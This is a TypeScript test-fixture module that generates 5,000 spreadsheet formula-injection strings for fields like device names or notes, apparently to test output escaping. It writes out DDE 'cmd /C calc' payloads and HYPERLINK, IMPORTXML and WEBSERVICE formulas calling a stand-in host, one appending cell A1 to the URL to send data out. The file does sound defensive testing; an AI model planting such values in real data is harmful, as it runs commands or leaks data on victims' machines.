/*
 * Texts that somebody may send as a device name, an employer or a note, in the hope that a spreadsheet takes them for a
 * formula. Every text is another one.
 */

/** How many there are to try. */
const formulas = 5_000;

const formulaStarts = ['=', '+', '-', '@', '\t=', '\r=', '\0=', '＝', '＋', '－', '＠', '\n=', '"=', '\0\0@'];
const formulaBodies = [
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://x.invalid/?"&A1,"open")',
  'IMPORTXML("http://x.invalid","//a")',
  '1+1',
  'SUM(1;2)*cmd',
  'WEBSERVICE("http://x.invalid")',
  'DDE("cmd";"/C calc";"x")',
  '10+20+cmd|x',
];

/** Texts that a spreadsheet could take for a formula. */
export function formulaPayloads(): string[] {
  return Array.from({ length: formulas }, (_, n) => {
    const start = formulaStarts[n % formulaStarts.length]!;
    const body = formulaBodies[Math.floor(n / formulaStarts.length) % formulaBodies.length]!;
    return `${start}${body}${n}`;
  });
}
